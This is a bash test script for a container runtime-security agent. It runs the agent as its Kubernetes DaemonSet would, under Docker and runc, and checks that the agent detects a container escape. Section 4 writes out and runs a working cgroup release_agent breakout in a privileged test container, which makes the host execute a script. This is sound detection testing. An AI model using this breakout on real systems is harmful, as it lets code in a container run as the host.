#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# The Kubernetes deployment without a control plane: the kustomization rendered and
# validated offline against the Kubernetes schemas (manifests.cjs, npm packages installed
# into BUILD/k8s-tools), then the image built offline (make image) and run under the local
# Docker engine with the privileges, mounts, config and host PID namespace the DaemonSet
# declares; it must report the cgroup release_agent breakout in a sibling container with
# that container's id and image, answer /healthz and /metrics on its pod network, and stop
# cleanly on SIGTERM.
# Usage (root): tests/kubernetes/run.sh BUILD_DIR     Last line: "N passed, N failed".
set -u
BUILD=$(realpath "$1")
HERE=$(cd "$(dirname "$0")" && pwd)
cd "$HERE/../.."
W=$(mktemp -d /tmp/bulwark-k8s.XXXXXX)
chmod 755 "$W"
TOOLS=$BUILD/k8s-tools
AGENT=bw-k8s-agent VICTIM=bw-k8s-breakout RUNC=bw-k8s-runc
SIB_IMAGE=localhost/bulwark-busybox:test # made by tests/e2e/docker-env.sh
passed=0 failed=0
CREATED=() OWN_DOCKER=
ok() { echo "ok   $1"; passed=$((passed + 1)); }
fail() { echo "FAIL $1"; failed=$((failed + 1)); }
finish() {
	echo "$passed passed, $failed failed"
	[ "$failed" -eq 0 ]
	exit
}
cleanup() {
	docker exec "$VICTIM" sh -c 'rmdir /tmp/cgrp/x; umount /tmp/cgrp' >/dev/null 2>&1
	docker rm -f "$AGENT" "$VICTIM" "$RUNC-export" >/dev/null 2>&1
	runc delete -f "$RUNC" >/dev/null 2>&1
	for d in "${CREATED[@]}"; do rmdir "$d" 2>/dev/null; done
	[ -n "$OWN_DOCKER" ] && tests/e2e/docker-env.sh stop
	rm -rf "$W"
}
trap cleanup EXIT

# ---- 1. the manifests, offline --------------------------------------------------------------
if [ ! -f "$TOOLS/.installed-v1" ]; then
	rm -rf "$TOOLS" && mkdir -p "$TOOLS"
	if (cd "$TOOLS" && npm init -y >/dev/null &&
		npm install --no-audit --no-fund --loglevel=error kubernetes-models@4.5.1 yaml@2.9.1 \
			@kubernetes/client-node@1.4.0 >"$W/npm.log" 2>&1); then
		touch "$TOOLS/.installed-v1"
	else
		fail "npm install of the Kubernetes schemas: $(tail -3 "$W/npm.log")"
		finish
	fi
fi
NODE_PATH=$TOOLS/node_modules node "$HERE/manifests.cjs" packaging/kubernetes "$W/k8s" >"$W/manifests.log" 2>&1
while read -r status msg; do
	case $status in
	ok) ok "manifests: $msg" ;;
	FAIL) fail "manifests: $msg" ;;
	esac
done <"$W/manifests.log"
grep -q '^manifests ok$' "$W/manifests.log" || { fail "manifests: $(tail -3 "$W/manifests.log")"; finish; }

# ---- 2. the image ---------------------------------------------------------------------------
# a Docker engine this test starts is stopped by it; one already running is left alone
docker info >/dev/null 2>&1 || OWN_DOCKER=1
tests/e2e/docker-env.sh start || { fail "no Docker engine"; finish; }
IMAGE=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["image"])' "$W/k8s/run.json")
if make --no-print-directory image BUILD="$BUILD" IMAGE="$IMAGE" >"$W/image.log" 2>&1; then
	ok "image $IMAGE built offline (FROM scratch): $(docker image inspect -f '{{.Size}}' "$IMAGE") bytes"
	echo "info: image size $(docker image inspect -f '{{.Size}}' "$IMAGE") bytes"
else
	fail "make image: $(tail -3 "$W/image.log")"
	finish
fi
if out=$(docker run --rm --network none --entrypoint /usr/bin/bulwark -v "$W/k8s/config:/etc/bulwark:ro" "$IMAGE" \
	config check /etc/bulwark/bulwark.yaml 2>&1); then
	ok "the ConfigMap's config checks inside the image: $out"
else
	fail "config check in the image: $out"
fi

# ---- 3. run it as the DaemonSet declares ----------------------------------------------------
# tracefs is the host's, mounted by the node (the agent mounts it itself only on a host)
mountpoint -q /sys/kernel/tracing || mount -t tracefs nodev /sys/kernel/tracing
# capabilities this engine cannot name (Docker 20.10 predates CAP_BPF and CAP_PERFMON):
# CAP_SYS_ADMIN stands for both, as the kernel accepts it for bpf() and perf_event_open()
if docker run --rm --network none --cap-drop ALL --cap-add BPF --cap-add PERFMON --entrypoint /usr/bin/bulwark \
	"$IMAGE" version >/dev/null 2>&1; then
	CAPMAP=
else
	CAPMAP=sysadmin
	echo "info: this Docker engine does not know CAP_BPF/CAP_PERFMON: CAP_SYS_ADMIN stands for them here"
fi
mkdir -p "$W/spool"
python3 - "$W/k8s/run.json" "$W" "$CAPMAP" >"$W/docker-args" <<'EOF'
import json, os, sys
run, w, capmap = json.load(open(sys.argv[1])), sys.argv[2], sys.argv[3]
a = []
if run["hostPID"]: a += ["--pid", "host"]
if run["user"] is not None: a += ["--user", str(run["user"])]
if run["readOnlyRoot"]: a += ["--read-only"]
if run["noNewPrivileges"]: a += ["--security-opt", "no-new-privileges"]
for c in run["capDrop"]: a += ["--cap-drop", c]
caps = run["capAdd"]
if capmap == "sysadmin":
    caps = [c for c in caps if c not in ("BPF", "PERFMON")] + ["SYS_ADMIN"]
for c in caps: a += ["--cap-add", c]
if run["seccomp"] == "Unconfined": a += ["--security-opt", "seccomp=unconfined"]
if run["apparmor"] == "Unconfined": a += ["--security-opt", "apparmor=unconfined"]
mem = run["memory"]
a += ["--memory", mem.replace("Mi", "m").replace("Gi", "g"), "--cpus", run["cpus"]]
for m in run["mounts"]:
    ro = ":ro" if m.get("readOnly") else ""
    if m["kind"] == "config":
        a += ["-v", f"{w}/k8s/config:{m['target']}{ro}"]
    elif m["kind"] == "tmpfs":
        a += ["--tmpfs", f"{m['target']}:size={m['size'].replace('Mi', 'm')}"]
    elif m["kind"] == "host":
        src = m["source"]
        # the spool: a test directory on this host instead of the node's /var/lib/bulwark
        if m["target"] == "/var/lib/bulwark": src = f"{w}/spool"
        a += ["-v", f"{src}:{m['target']}{ro}"]
    else:
        sys.exit(f"unsupported volume {m}")
print("\n".join(a + [run["image"]] + run["args"]))
EOF
# DirectoryOrCreate host paths, as the kubelet would (removed afterwards if this test made them)
for d in /var/lib/docker /run/docker /run/containerd /run/runc; do
	[ -e "$d" ] || { mkdir -p "$d" && CREATED+=("$d"); }
done
mapfile -t ARGS <"$W/docker-args"
docker rm -f "$AGENT" >/dev/null 2>&1
if ! docker run -d --name "$AGENT" "${ARGS[@]}" >"$W/run.log" 2>&1; then
	fail "docker run ${ARGS[*]}: $(cat "$W/run.log")"
	finish
fi
for _ in $(seq 150); do docker logs "$AGENT" 2>&1 | grep -q '"bulwark running' && break; sleep 0.2; done
if docker logs "$AGENT" 2>&1 | grep -q '"bulwark running'; then
	ok "the image runs with the DaemonSet's privileges and mounts: docker run ${ARGS[*]}"
else
	fail "the agent did not start: $(docker logs "$AGENT" 2>&1 | tail -5)"
	finish
fi
# the kubelet's probes reach the pod's address: here, the container's network namespace
pid=$(docker inspect -f '{{.State.Pid}}' "$AGENT")
sleep 1.5
code=$(nsenter -t "$pid" -n curl -s -o "$W/h.json" -w '%{http_code}' http://127.0.0.1:9376/healthz)
[ "$code" = 200 ] && ok "/healthz on the pod network: $(cat "$W/h.json")" || fail "/healthz: $code $(cat "$W/h.json")"
nsenter -t "$pid" -n curl -s http://127.0.0.1:9376/metrics >"$W/metrics.txt"
if out=$(python3 tests/ops/promcheck.py "$W/metrics.txt"); then ok "/metrics on the pod network: $out"; else fail "/metrics: $out"; fi

# ---- 3b. the same image under runc with exactly the DaemonSet's capabilities ------------------
# runc is the OCI runtime beneath containerd and CRI-O; unlike this Docker it can name CAP_BPF
# and CAP_PERFMON, so this run has no stand-in: the bounding set is the manifest's list.
B=$W/bundle
mkdir -p "$B/rootfs"
docker rm -f "$RUNC-export" >/dev/null 2>&1
docker create --name "$RUNC-export" "$IMAGE" >/dev/null && docker export "$RUNC-export" | tar -x -C "$B/rootfs"
docker rm -f "$RUNC-export" >/dev/null 2>&1
(cd "$B" && runc spec)
python3 - "$W/k8s/run.json" "$W" "$B/config.json" <<'PY'
import json, sys
run, w, path = json.load(open(sys.argv[1])), sys.argv[2], sys.argv[3]
c = json.load(open(path))
caps = ["CAP_" + x for x in run["capAdd"]]
p = c["process"]
p.update(terminal=False, args=["/usr/bin/bulwark", "run"] + run["args"], noNewPrivileges=run["noNewPrivileges"])
p["user"] = {"uid": run["user"], "gid": 0}
p["capabilities"] = {k: caps for k in ("bounding", "effective", "permitted")}
c["root"] = {"path": "rootfs", "readonly": run["readOnlyRoot"]}
# hostPID: no PID namespace (the node's); the pod's own network, IPC, UTS and mount namespaces
c["linux"]["namespaces"] = [n for n in c["linux"]["namespaces"] if n["type"] != "pid" or not run["hostPID"]]
c["linux"]["cgroupsPath"] = "/bulwark-k8s-runc"
c["linux"]["resources"]["memory"] = {"limit": int(run["memory"].rstrip("Mi")) << 20}
c["mounts"] = [m for m in c["mounts"] if m["destination"] != "/sys/fs/cgroup"]
for m in run["mounts"]:
    if m["kind"] == "tmpfs":
        c["mounts"].append({"destination": m["target"], "type": "tmpfs", "source": "tmpfs",
                            "options": ["nosuid", "nodev", "size=" + m["size"].replace("Mi", "m")]})
        continue
    src = f"{w}/k8s/config" if m["kind"] == "config" else m["source"]
    if m["target"] == "/var/lib/bulwark": src = f"{w}/spool"
    c["mounts"].append({"destination": m["target"], "type": "bind", "source": src,
                        "options": ["rbind", "ro" if m.get("readOnly") else "rw"]})
json.dump(c, open(path, "w"), indent=1)
PY
runc delete -f "$RUNC" >/dev/null 2>&1
if (cd "$B" && runc run -d "$RUNC" >"$W/runc.out" 2>"$W/runc.err" </dev/null); then
	for _ in $(seq 150); do grep -q '"bulwark running' "$W/runc.err" && break; sleep 0.2; done
fi
rpid=$(runc state "$RUNC" 2>/dev/null | python3 -c 'import json,sys; print(json.load(sys.stdin)["pid"])' 2>/dev/null)
capbnd=$(sed -n 's/^CapBnd:\t//p' "/proc/$rpid/status" 2>/dev/null)
if grep -q '"bulwark running' "$W/runc.err" && [ "$capbnd" = 000000c000080004 ]; then
	ok "under runc with exactly CAP_BPF CAP_PERFMON CAP_SYS_PTRACE CAP_DAC_READ_SEARCH (CapBnd $capbnd): running"
else
	fail "runc run with the manifest's capabilities (CapBnd ${capbnd:-?}): $(tail -3 "$W/runc.err")"
fi

# ---- 4. the breakout in a sibling container --------------------------------------------------
docker rm -f "$VICTIM" >/dev/null 2>&1
id=$(docker run -d --name "$VICTIM" --cap-add SYS_ADMIN --security-opt seccomp=unconfined \
	--security-opt apparmor=unconfined "$SIB_IMAGE" sleep 300)
docker exec "$VICTIM" sh -c "mkdir -p /tmp/cgrp && mount -t cgroup -o none,name=bwk8s$$ cgroup /tmp/cgrp && mkdir -p /tmp/cgrp/x;
	echo 1 > /tmp/cgrp/x/notify_on_release;
	host_path=\$(sed -n 's/.*\\perdir=\\([^,]*\\).*/\\1/p' /proc/mounts);
	echo \"\$host_path/cmd\" > /tmp/cgrp/release_agent;
	printf '#!/bin/sh\\nps > %s/output\\n' \"\$host_path\" > /cmd; chmod a+x /cmd;
	sh -c 'echo \$\$ > /tmp/cgrp/x/cgroup.procs'"
# the host writes the output into the upper directory: watch it from the host, not from inside
upper=$(docker inspect -f '{{.GraphDriver.Data.UpperDir}}' "$VICTIM")
for _ in $(seq 75); do grep -q PID "$upper/output" 2>/dev/null && break; sleep 0.2; done
if grep -q PID "$upper/output" 2>/dev/null; then ok "the breakout ran: the host executed the container's /cmd"; else fail "the breakout did not run"; fi
find_alert() { # rule: the alert line of the victim container, as JSON, or nothing
	docker logs "$AGENT" 2>/dev/null | python3 -c '
import json, sys
rule, cid = sys.argv[1], sys.argv[2]
for line in sys.stdin:
    try: a = json.loads(line)
    except ValueError: continue
    f = a.get("output_fields", {})
    if a.get("rule") == rule and f.get("container.id") == cid[:12]:
        print(json.dumps({"rule": a["rule"], "priority": a["priority"], "container.id": f["container.id"],
                          "image": f.get("container.image.repository")})); break' "$1" "$id"
}
for rule in "Container Escape via cgroup release_agent" "cgroup notify_on_release Enabled in Container"; do
	got=
	for _ in $(seq 75); do got=$(find_alert "$rule") && [ -n "$got" ] && break; sleep 0.2; done
	if [[ $got == *"\"image\": \"${SIB_IMAGE%:*}\""* ]]; then
		ok "alert from the image: $got"
	else
		fail "no alert \"$rule\" with container ${id:0:12} and image ${SIB_IMAGE%:*}: ${got:-none}"
	fi
done
rule="Container Escape via cgroup release_agent"
if python3 -c '
import json, sys
for line in open(sys.argv[1]):
    try: a = json.loads(line)
    except ValueError: continue
    f = a.get("output_fields", {})
    if a.get("rule") == sys.argv[2] and f.get("container.id") == sys.argv[3][:12] and f.get("container.image.repository") == sys.argv[4]:
        sys.exit(0)
sys.exit(1)' "$W/runc.out" "$rule" "$id" "${SIB_IMAGE%:*}"; then
	ok "the runc-run agent (exact capabilities) reported it too, with the container's id and image"
else
	fail "no \"$rule\" alert from the runc-run agent: $(tail -2 "$W/runc.err")"
fi
docker exec "$VICTIM" sh -c 'rmdir /tmp/cgrp/x; umount /tmp/cgrp' >/dev/null 2>&1
runc kill "$RUNC" TERM >/dev/null 2>&1
for _ in $(seq 100); do [ "$(runc state "$RUNC" 2>/dev/null | grep -c '"stopped"')" = 1 ] && break; sleep 0.1; done
runc delete -f "$RUNC" >/dev/null 2>&1

# ---- 5. SIGTERM (the kubelet's stop) -----------------------------------------------------------
t0=$(date +%s%N)
docker stop -t 20 "$AGENT" >/dev/null
ms=$((($(date +%s%N) - t0) / 1000000))
rc=$(docker inspect -f '{{.State.ExitCode}}' "$AGENT")
if [ "$rc" = 0 ] && [ "$ms" -lt 10000 ] && docker logs "$AGENT" 2>&1 | grep -q '"trace stats'; then
	ok "SIGTERM: exit 0 after $ms ms with final counters"
else
	fail "SIGTERM: exit $rc after $ms ms"
fi
finish
